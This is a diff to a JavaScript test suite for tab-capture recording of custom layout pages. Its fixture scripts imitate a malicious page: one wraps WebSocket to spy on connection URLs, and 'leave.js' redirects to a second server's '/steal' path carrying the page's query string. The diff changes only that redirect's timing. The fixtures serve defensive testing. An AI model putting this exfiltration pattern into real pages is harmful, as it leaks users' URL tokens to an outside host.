@@ -292,7 +292,8 @@ describe('custom layout pages (tab capture)', () => {
       window.WebSocket = function (url, p) { seen.push(String(url)); return new Real(url, p); };
       console.log('START_RECORDING');
       setTimeout(() => fetch('/report', { method: 'POST', body: JSON.stringify({ seen, recorder: typeof window.recorder, state: typeof window.recorderState, dom: document.documentElement.outerHTML.includes('secret') }) }), 3000);`,
-    'leave.js': `console.log('START_RECORDING'); setTimeout(() => { location.href = ELSEWHERE + '/steal' + location.search; }, 2000);`,
+    // leaves once a few 1 s chunks were sent (the chunks sent before it left are what is kept)
+    'leave.js': `console.log('START_RECORDING'); setTimeout(() => { location.href = ELSEWHERE + '/steal' + location.search; }, 3500);`,
   };
   beforeAll(async () => {
     elsewhere = http.createServer((req, res) => {
